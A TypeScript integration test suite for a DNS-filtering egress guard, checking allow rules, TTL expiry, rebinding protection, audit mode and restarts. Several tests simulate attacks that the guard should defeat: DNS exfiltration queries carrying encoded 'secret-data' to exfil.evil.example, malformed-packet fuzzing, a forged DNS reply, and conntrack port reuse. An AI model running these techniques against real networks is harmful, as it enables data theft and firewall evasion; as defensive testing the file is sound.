/**
 * Integration: the DNS guard against a real authoritative server (NSD) and
 * the real kernel. One world, the daemon in the client namespace, one test
 * per behaviour the guard promises.
 */
import assert from 'node:assert/strict';
import type { ChildProcess } from 'node:child_process';
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { after, before, describe, it } from 'node:test';
import { HOSTS, ROOT, World } from '../world/world.js';

const DNSQ = join(ROOT, 'dist/test/world/dnsq.js');

interface Answer {
  name: string;
  qr?: boolean;
  rcode?: number;
  tc?: boolean;
  answers?: string[];
  ede?: { code: number; text: string }[];
  connect?: string;
  error?: string;
}

const POLICY = `mode: enforce
dns:
  upstreams: [198.18.0.53, 2001:db8::53]
  ttl_floor: 1
  ttl_grace: 1
  max_addresses_per_answer: 200
  max_addresses_per_name: 200
rules:
  - name: api
    to: [api.sluice.test, www.sluice.test, many.sluice.test, private.sluice.test, short.sluice.test,
         shared-short.sluice.test, shared-long.sluice.test, "*.race.sluice.test", "*.cdn.sluice.test",
         audit-only.sluice.test]
    ports: [443/tcp, 9000/tcp]
  - name: lan
    to: [198.18.4.0/24]
`;

describe('integration: DNS guard', () => {
  let w: World;
  let daemon: ChildProcess;
  let policy: string;

  const startDaemon = async () => {
    daemon = await w.spawnReady(w.client, [process.execPath, join(ROOT, 'bin/sluice'), 'daemon', policy, '--metrics', 'off'], { env: w.env(), readyText: 'running' });
  };
  const stopDaemon = async (signal: NodeJS.Signals) => {
    const exited = new Promise((r) => daemon.once('exit', r));
    daemon.kill(signal);
    await exited;
  };
  const q = async (...args: string[]): Promise<Answer[]> => {
    const r = await w.exec([process.execPath, DNSQ, ...args]);
    return r.stdout.trim().split('\n').filter(Boolean).map((l) => JSON.parse(l) as Answer);
  };
  const one = async (...args: string[]): Promise<Answer> => (await q(...args))[0] as Answer;
  const control = (method: string) => w.control(method);
  const learnedNames = async () => (await control('dns.learned')) as { address: string; names: string[] }[];
  /** Packets that reached port 53 in the world namespace, by destination: proves what the servers saw. */
  const worldDnsPackets = async (): Promise<Record<string, number>> => {
    const text = await w.exec(['nft', '-j', 'list', 'table', 'inet', 'seen'], { ns: w.world });
    const out: Record<string, number> = {};
    for (const item of (JSON.parse(text.stdout) as { nftables: { rule?: { comment?: string; expr: { counter?: { packets: number } }[] } }[] }).nftables) {
      const c = item.rule?.expr.find((e) => e.counter)?.counter;
      if (item.rule?.comment && c) out[item.rule.comment] = c.packets;
    }
    return out;
  };

  before(async () => {
    w = await World.create({ dns: true });
    for (const r of ['198.18.1.0/24', '198.18.4.0/24', '198.18.6.0/24', '198.18.10.0/24', '198.18.20.0/24']) await w.addLocalRange(r);
    await w.exec(['nft', '-f', '-'], {
      ns: w.world,
      input: `table inet seen { chain in { type filter hook input priority 0; policy accept;
        ip daddr 198.18.0.53 meta l4proto { tcp, udp } th dport 53 counter comment "resolver";
        ip daddr 198.18.0.53 udp sport 40153 udp dport 53 counter comment "resolver-40153";
        ip6 daddr 2001:db8::53 meta l4proto { tcp, udp } th dport 53 counter comment "resolver6";
        ip daddr 198.18.2.20 meta l4proto { tcp, udp } th dport 53 counter comment "other"; }; }`,
    });
    policy = w.policy(POLICY);
    await startDaemon();
  });
  after(async () => {
    if (daemon && daemon.exitCode === null) await stopDaemon('SIGTERM');
    await w?.destroy();
  });

  it('a program that resolves an allowed name connects on the first try; other ports and addresses stay blocked', async () => {
    const a = await one('--name', 'api.sluice.test', '--connect', '443');
    assert.deepEqual(a.answers, [HOSTS.api4]);
    assert.equal(a.connect, 'ok');
    const reach = await w.reach([`tcp:${HOSTS.api4}:80`, `tcp:${HOSTS.api4b}:443`], { timeoutMs: 800 });
    assert.deepEqual(reach, { [`tcp:${HOSTS.api4}:80`]: false, [`tcp:${HOSTS.api4b}:443`]: false });
  });

  it('the first-connect race: 200 fresh names, each connected the instant its answer arrives', async () => {
    const results = await q('--repeat-names', 'r{i}.race.sluice.test', '--count', '200', '--connect', '443');
    assert.equal(results.length, 200);
    const failed = results.filter((r) => r.connect !== 'ok');
    assert.deepEqual(failed, [], 'every connect right after its answer passed');
  });

  it('a name no rule allows gets NXDOMAIN with a Blocked EDE, and the authoritative server never sees the query', async () => {
    const before = await worldDnsPackets();
    const a = await one('--name', 'c2VjcmV0LWRhdGE.exfil.evil.example', '--edns', '1232');
    assert.equal(a.rcode, 3);
    assert.equal(a.ede?.[0]?.code, 15);
    const tcp = await one('--name', 'more-secrets.exfil.evil.example', '--tcp');
    assert.equal(tcp.rcode, 3);
    assert.deepEqual(await worldDnsPackets(), before, 'no DNS packet reached the world');
    // A name not asked before (api.sluice.test would come from the guard's cache).
    await one('--name', 'counted.race.sluice.test');
    const after = await worldDnsPackets();
    assert.ok((after.resolver ?? 0) + (after.resolver6 ?? 0) > (before.resolver ?? 0) + (before.resolver6 ?? 0), 'an allowed name is forwarded (the counter works)');
  });

  it('a query sent to another resolver is answered by the guard; that resolver never sees it', async () => {
    const before = await worldDnsPackets();
    const allowed = await one('--server', HOSTS.other4, '--name', 'api.sluice.test');
    assert.equal(allowed.qr, true, 'a real answer, not the echo server at that address');
    assert.deepEqual(allowed.answers, [HOSTS.api4]);
    const blocked = await one('--server', HOSTS.other4, '--name', 'exfil.evil.example', '--tcp');
    assert.equal(blocked.rcode, 3);
    assert.equal((await worldDnsPackets()).other ?? 0, before.other ?? 0);
  });

  it('a process reusing a source port the guard let go cannot ride its conntrack entry to the resolver', async () => {
    // What the guard leaves behind when it retires an upstream socket: a live conntrack entry.
    const made = await w.exec(['conntrack', '-I', '-p', 'udp', '-s', HOSTS.client4, '-d', HOSTS.dns4, '--sport', '40999', '--dport', '53', '--timeout', '120']);
    assert.equal(made.code, 0, made.stderr);
    const before = await worldDnsPackets();
    const a = await one('--name', 'exfil.evil.example', '--sport', '40999', '--timeout', '1000');
    assert.ok(a.error, 'no answer: the packet is dropped, not forwarded');
    assert.equal((await worldDnsPackets()).resolver, before.resolver, 'the resolver never saw it');
    assert.equal((await w.exec(['conntrack', '-I', '-p', 'udp', '-s', HOSTS.client4, '-d', HOSTS.dns4, '--sport', '40998', '--dport', '53', '--timeout', '120'])).code, 0);
    const nobody = await w.exec([process.execPath, DNSQ, '--name', 'exfil.evil.example', '--sport', '40998', '--timeout', '1000'], { uid: 65534 });
    assert.match(nobody.stdout, /error/, 'nor for an unprivileged user');
    assert.equal((await worldDnsPackets()).resolver, before.resolver);
    const fresh = await one('--name', 'exfil.evil.example', '--sport', '40997');
    assert.equal(fresh.rcode, 3, 'a port without a stale entry is redirected to the guard as usual');
  });

  it('DNS over TLS (853) is blocked even to a host a broad rule allows', async () => {
    const reach = await w.reach(['tcp:198.18.4.4:853', 'tcp:198.18.4.4:80'], { timeoutMs: 800 });
    assert.deepEqual(reach, { 'tcp:198.18.4.4:853': false, 'tcp:198.18.4.4:80': true });
  });

  it('CNAME chains are followed, and wildcards match on label boundaries only', async () => {
    const www = await one('--name', 'www.sluice.test', '--connect', '443');
    assert.deepEqual(www.answers, ['CNAME edge.cdn.sluice.test', 'CNAME edge2.cdn.sluice.test', '198.18.1.11']);
    assert.equal(www.connect, 'ok');
    assert.equal((await one('--name', 'x.y.cdn.sluice.test', '--connect', '443')).connect, 'ok');
    assert.equal((await one('--name', 'cdn.sluice.test')).rcode, 3, 'the suffix itself is not matched by *.cdn');
    assert.equal((await one('--name', 'evil-cdn.sluice.test')).rcode, 3, 'nor a name that only ends with the same letters');
    assert.equal((await one('--name', 'A.CDN.Sluice.TEST', '--connect', '443')).connect, 'ok', 'case-insensitive');
  });

  it('AAAA answers open IPv6 destinations', async () => {
    const a = await one('--name', 'api.sluice.test', '--type', 'AAAA', '--connect', '443');
    assert.deepEqual(a.answers, [HOSTS.api6]);
    assert.equal(a.connect, 'ok');
    assert.deepEqual(await w.reach([`tcp:[${HOSTS.other6}]:443`], { timeoutMs: 800 }), { [`tcp:[${HOSTS.other6}]:443`]: false });
  });

  it('DNS over TCP, and truncation: 200 addresses do not fit UDP without EDNS; over TCP they all arrive', async () => {
    const udp = await one('--name', 'many.sluice.test');
    assert.equal(udp.tc, true);
    const tcp = await one('--name', 'many.sluice.test', '--tcp');
    assert.equal(tcp.answers?.length, 200);
    assert.deepEqual(await w.reach(['tcp:198.18.10.57:443', 'tcp:198.18.10.199:443'], { timeoutMs: 800 }), { 'tcp:198.18.10.57:443': true, 'tcp:198.18.10.199:443': true });
  });

  it('answers pointing into private ranges are dropped (DNS rebinding)', async () => {
    const a = await one('--name', 'private.sluice.test', '--edns', '1232');
    assert.deepEqual(a.answers, [HOSTS.api4], '10.0.0.1 is not passed on');
    assert.equal(a.ede?.[0]?.code, 17);
    const six = await one('--name', 'private.sluice.test', '--type', 'AAAA');
    assert.deepEqual(six.answers, [], 'fd00::1 is not passed on');
  });

  it('an address expires with its TTL: the open connection keeps working, a new one needs a fresh lookup', async () => {
    // short.sluice.test: TTL 2 s, floor 1, grace 1 -> open for 3 s.
    const holder = w.spawnIn(w.client, [process.execPath, DNSQ, '--name', 'short.sluice.test', '--connect', '9000', '--hold', '6000']);
    let out = '';
    holder.stdout?.on('data', (d: Buffer) => {
      out += d.toString();
    });
    const done = new Promise((r) => holder.once('exit', r));
    await sleep(4500);
    // Port 443 (its server greets, so the probe can tell open from refused; 9000 is an echo server that never speaks first).
    const [after] = await w.probe([`tcp:${HOSTS.other4}:443`], { timeoutMs: 800 });
    assert.equal(after?.error, 'ECONNREFUSED', `a new connection after expiry is refused: ${JSON.stringify(after)}`);
    await done;
    const held = JSON.parse(out.trim()) as Answer;
    assert.equal(held.connect, 'ok', 'the connection opened before expiry still exchanges data');
    assert.equal((await one('--name', 'short.sluice.test', '--connect', '9000')).connect, 'ok', 'a fresh lookup opens it again');
  });

  it('an answer repeated with the same TTL extends the address from the new answer (the kernel must take the same timeout again)', async () => {
    // short.sluice.test: open 3 s from each answer. Answered at 0 and again at 2 s: open until 5 s.
    // Without the expiry sent with the timeout, Linux 6.12+ keeps the first expiry (3 s).
    await sleep(3500); // the previous test's answers have run out
    const first = Date.now();
    await one('--name', 'short.sluice.test');
    await sleep(2000 - (Date.now() - first));
    await one('--name', 'short.sluice.test');
    await sleep(3600 - (Date.now() - first));
    const [r] = await w.probe([`tcp:${HOSTS.other4}:443`], { timeoutMs: 800 });
    assert.equal(r?.ok, true, `open past the first answer's end: ${JSON.stringify(r)}`);
  });

  it('one address shared by two names with different TTLs stays open for the longer', async () => {
    await one('--name', 'shared-long.sluice.test');
    await one('--name', 'shared-short.sluice.test');
    await sleep(4000);
    assert.deepEqual(await w.reach([`tcp:${HOSTS.net3}:443`], { timeoutMs: 800 }), { [`tcp:${HOSTS.net3}:443`]: true });
  });

  it('the live guard survives hostile packets and keeps answering', async () => {
    const r = await w.exec([
      process.execPath,
      '-e',
      `const d = require('dgram'); const s = d.createSocket('udp4'); let n = 0;
       const valid = Buffer.from('abcd01000001000000000000036170690673 6c75696365 0474657374 0000010001'.replace(/ /g, ''), 'hex');
       const next = () => {
         if (n++ >= 3000) { s.close(); return; }
         let b;
         if (n % 3 === 0) { b = Buffer.from(valid); for (let k = 0; k < 4; k++) b[Math.floor(Math.random() * b.length)] = Math.floor(Math.random() * 256); }
         else if (n % 3 === 1) { b = Buffer.alloc(Math.floor(Math.random() * 600)); for (let k = 0; k < b.length; k++) b[k] = Math.floor(Math.random() * 256); }
         else { b = Buffer.concat([valid.subarray(0, 12), Buffer.from([0xc0, 0x0c, 0xc0, 0x0e])]); }
         s.send(b, 53, '198.18.0.53', next);
       };
       next();
       const net = require('net'); const t = net.connect(53, '198.18.0.53', () => { t.write(Buffer.from([0xff, 0xff, 1, 2, 3])); t.end(); }); t.on('error', () => {});`,
    ]);
    assert.equal(r.code, 0, r.stderr);
    await sleep(500);
    assert.equal(daemon.exitCode, null, 'the daemon is alive');
    const a = await one('--name', 'api.sluice.test', '--connect', '443');
    assert.equal(a.connect, 'ok', 'and still answers correctly');
    const status = (await control('status')) as {
      components: { 'dns-guard': { guard: { malformed: number } } };
    };
    assert.ok(status.components['dns-guard'].guard.malformed > 0, 'malformed packets were counted');
  });

  it('sluice dns lists recent queries with verdict, rule, answers and the asking process', async () => {
    await one('--name', 'no-such-name.evil.example');
    const r = await w.sluiceJson<{ name: string; verdict: string; rules: string[]; answers: string[]; process?: { pid: number; exe?: string } }[]>(['dns', '--limit', '1000']);
    assert.equal(r.code, 0);
    const allowed = r.json.find((e) => e.name === 'api.sluice.test' && e.verdict === 'allowed');
    assert.deepEqual(allowed?.rules, ['api']);
    assert.ok(allowed?.answers.includes(HOSTS.api4));
    const blocked = r.json.find((e) => e.name === 'no-such-name.evil.example');
    assert.equal(blocked?.verdict, 'blocked');
    assert.ok(blocked?.process && blocked.process.pid > 0 && blocked.process.exe === process.execPath, `the asking process: ${JSON.stringify(blocked?.process)}`);
  });

  it('a reload keeps the names learned since the last save', async () => {
    assert.ok((await one('--name', 'a.cdn.sluice.test')).answers?.includes('198.18.1.12'));
    const file = join(w.stateDir, 'learned.json');
    assert.doesNotMatch(existsSync(file) ? readFileSync(file, 'utf8') : '', /a\.cdn\.sluice\.test/, 'not saved yet: only the running daemon knows the name');
    await control('reload');
    const learned = await learnedNames();
    assert.ok(learned.find((l) => l.address === '198.18.1.12')?.names.includes('a.cdn.sluice.test'), 'still named after the reload');
  });

  it('a restart restores learned addresses before answering, even ones the kernel lost meanwhile', async () => {
    assert.equal((await one('--name', 'api.sluice.test', '--connect', '443')).connect, 'ok');
    await stopDaemon('SIGTERM');
    assert.deepEqual(await w.reach([`tcp:${HOSTS.api4}:443`]), { [`tcp:${HOSTS.api4}:443`]: true }, 'enforcement and learned addresses stay while the daemon is down');
    assert.ok((await one('--name', 'api.sluice.test', '--timeout', '1000')).error, 'no DNS without the guard (fail closed)');
    await w.nft(['flush', 'set', 'inet', 'sluice', 'r_api_d4']);
    assert.deepEqual(await w.reach([`tcp:${HOSTS.api4}:443`], { timeoutMs: 800 }), { [`tcp:${HOSTS.api4}:443`]: false }, 'the kernel lost it');
    await startDaemon();
    assert.deepEqual(await w.reach([`tcp:${HOSTS.api4}:443`]), { [`tcp:${HOSTS.api4}:443`]: true }, 'restored without a new lookup');
    const learned = await learnedNames();
    assert.ok(learned.find((l) => l.address === HOSTS.api4)?.names.includes('api.sluice.test'), 'and still named');
  });

  it('a killed daemon leaves enforcement in place and opens nothing new', async () => {
    assert.equal((await one('--name', 'api.sluice.test', '--connect', '443')).connect, 'ok');
    await stopDaemon('SIGKILL');
    const reach = await w.reach([`tcp:${HOSTS.api4}:443`, `tcp:${HOSTS.other4}:443`], { timeoutMs: 800 });
    assert.deepEqual(reach, { [`tcp:${HOSTS.api4}:443`]: true, [`tcp:${HOSTS.other4}:443`]: false });
    assert.ok((await one('--name', 'r7.race.sluice.test', '--timeout', '1000')).error, 'names do not resolve');
    await startDaemon();
  });

  it("the guard's port is privileged; a daemon that cannot bind it fails loudly, the ruleset stays, and the squatter gets no query", async () => {
    const bindAs = async (uid: number | undefined, port: number) =>
      (
        await w.exec([process.execPath, '-e', `const s = require('dgram').createSocket('udp4'); s.on('error', (e) => { console.log(e.code); process.exit(0); }); s.bind(${port}, '127.0.0.1', () => { console.log('bound'); process.exit(0); });`], uid === undefined ? {} : { uid })
      ).stdout.trim();
    assert.equal(await bindAs(65534, 153), 'EACCES', 'an unprivileged user cannot take the port, even while the daemon is down');
    const before = await w.nft(['-s', '-t', 'list', 'table', 'inet', 'sluice']);
    await stopDaemon('SIGTERM');
    // Another root process takes the guard's port while the daemon is down, and counts what it receives.
    const squatter = w.spawnIn(w.client, [process.execPath, '-e', "let n = 0; const s = require('dgram').createSocket('udp4'); s.on('message', (m, r) => { n++; s.send(m, r.port, r.address); }); s.bind(153, '127.0.0.1', () => console.log('ready')); setInterval(() => console.log('got ' + n), 200);"]);
    let got = '';
    squatter.stdout?.on('data', (d: Buffer) => (got += d.toString()));
    await new Promise((r) => squatter.stdout?.once('data', r));
    const r = await w.sluice(['daemon', '--metrics', 'off']);
    assert.equal(r.code, 1, 'the start fails, with an exit status');
    assert.match(r.stderr, /cannot listen on port 153: EADDRINUSE/);
    const st = await w.sluiceJson<{ daemon: { state: string; error: string } }>(['status']);
    assert.equal(st.code, 3, '`status` says so too');
    assert.equal(st.json.daemon.state, 'failed');
    assert.match(st.json.daemon.error, /EADDRINUSE/);
    assert.equal(await w.nft(['-s', '-t', 'list', 'table', 'inet', 'sluice']), before, 'the ruleset in force is untouched (elements aside: their timers run)');
    assert.ok((await one('--name', 'api.sluice.test', '--timeout', '800')).error, 'a redirected query gets no answer...');
    await sleep(300);
    assert.match(got, /got 0\n$/, '...and the squatter never saw it: redirected DNS reaches only sockets with the guard\'s mark');
    squatter.kill('SIGKILL');
    await startDaemon();
  });

  it('audit mode: nothing redirected; replies seen by the kernel teach the daemon, unlisted names are would-block', async () => {
    // A deny rule naming a domain outright: enforce mode refuses the name, so audit mode calls it would-block.
    // tamper: alert, because the test empties a DNS set below on purpose (restore would refill it from the guard's record).
    const audit = w.policy(`${POLICY.replace('mode: enforce', 'mode: audit\ntamper: alert')}  - name: no-shared\n    action: deny\n    to: [shared-long.sluice.test]\n`, 'audit.yaml');
    // A query through the guard leaves a NAT binding in conntrack for its source port...
    assert.equal((await one('--name', 'x.y.cdn.sluice.test', '--sport', '40153')).rcode, 0);
    const applied = await w.sluice(['apply', audit]);
    assert.equal(applied.code, 0, applied.stderr);
    // The guard resolves the deny rule's name itself (A and AAAA) to fill its sets: let those lookups finish first.
    for (let i = 0; i < 50 && !/198\.18\.3\.30/.test(await w.nft(['list', 'set', 'inet', 'sluice', 'r_no-shared_d4']).catch(() => '')); i++) await sleep(100);
    await sleep(300);
    const before = await worldDnsPackets();
    // ...which leaving enforce mode forgets: a query from the same port reaches the real resolver.
    const blocked = await one('--name', 'unlisted.evil.example', '--sport', '40153');
    assert.equal(blocked.rcode, 5, 'NSD itself answered (REFUSED: not its zone), not the guard: nothing is redirected');
    const after = await worldDnsPackets();
    // Counted by the test's own source port: the guard's own lookups (its deny-rule refresher) also reach the resolver.
    assert.equal(after['resolver-40153'], (before['resolver-40153'] ?? 0) + 1, 'the query went to the real resolver');
    await w.nft(['flush', 'set', 'inet', 'sluice', 'r_api_d4']);
    // An unsolicited "reply" from port 53 (no query was sent) must teach nothing.
    const forged = await w.exec(
      [
        process.execPath,
        '-e',
        `const { encodeMessage } = await import('${ROOT}dist/src/dns/dns-message.js');
         const m = { id: 7, flags: { qr: true, opcode: 0, aa: true, tc: false, rd: true, ra: true, ad: false, cd: false, rcode: 0 },
           questions: [{ name: 'api.sluice.test', type: 1, class: 1 }],
           answers: [{ name: 'api.sluice.test', type: 1, class: 1, ttl: 86400, data: { kind: 'a', addr: 0xc6120214n } }], authorities: [], additionals: [] };
         const s = (await import('node:dgram')).createSocket('udp4');
         s.bind(53, '198.18.6.6', () => s.send(encodeMessage(m), 40053, '${HOSTS.client4}', () => s.close()));`,
      ],
      { ns: w.world },
    );
    assert.equal(forged.code, 0, forged.stderr);
    await one('--name', 'api.sluice.test');
    await one('--name', 'audit-only.sluice.test');
    await one('--name', 'shared-long.sluice.test');
    await sleep(300);
    const set = await w.nft(['list', 'set', 'inet', 'sluice', 'r_api_d4']);
    assert.doesNotMatch(set, /198\.18\.3\.30/, 'a name a deny rule refuses teaches nothing');
    assert.match(set, /198\.18\.1\.10/, 'learned from the observed reply');
    assert.match(set, /198\.18\.1\.77/);
    assert.doesNotMatch(set, /198\.18\.2\.20/, 'the forged reply taught nothing');
    const r = await w.sluiceJson<{ name: string; verdict: string; transport: string }[]>(['dns', '--limit', '50']);
    assert.ok(r.json.some((e) => e.name === 'unlisted.evil.example' && e.verdict === 'would-block' && e.transport === 'passive'));
    assert.ok(r.json.some((e) => e.name === 'api.sluice.test' && e.verdict === 'allowed' && e.transport === 'passive'));
    assert.ok(r.json.some((e) => e.name === 'shared-long.sluice.test' && e.verdict === 'would-block' && e.transport === 'passive'), 'refused by the deny rule');
    assert.deepEqual(await w.reach([`tcp:${HOSTS.other4}:443`]), { [`tcp:${HOSTS.other4}:443`]: true }, 'and nothing is blocked');

    // Back to enforce: what audit mode learned by watching is not carried over.
    assert.equal((await w.sluice(['apply', policy])).code, 0);
    await sleep(300);
    assert.doesNotMatch(await w.nft(['list', 'set', 'inet', 'sluice', 'r_api_d4']), /198\.18\.1\.77/, 'what audit mode learned is not carried into enforce');
    assert.deepEqual(await w.reach(['tcp:198.18.1.77:443'], { timeoutMs: 800 }), { 'tcp:198.18.1.77:443': false });
    assert.equal((await one('--name', 'audit-only.sluice.test', '--connect', '443')).connect, 'ok', 'a lookup through the guard opens it');
  });
});

